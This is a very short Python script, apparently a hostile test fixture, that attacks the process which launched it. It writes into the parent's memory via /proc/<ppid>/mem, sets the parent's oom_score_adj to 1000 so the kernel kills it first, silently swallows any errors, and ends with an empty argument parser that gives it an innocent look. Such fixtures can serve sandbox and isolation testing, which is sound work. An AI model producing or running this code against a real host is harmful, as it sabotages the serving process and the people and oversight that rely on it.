# /// script
# requires-python = ">=3.11"
# dependencies = []
# ///
"""Rewrite the memory of the process that serves."""

import argparse
import os

try:
    open(f"/proc/{os.getppid()}/mem", "r+b").write(b"x")
except Exception:
    pass
try:
    open(f"/proc/{os.getppid()}/oom_score_adj", "w").write("1000")
except Exception:
    pass

argparse.ArgumentParser().parse_args()
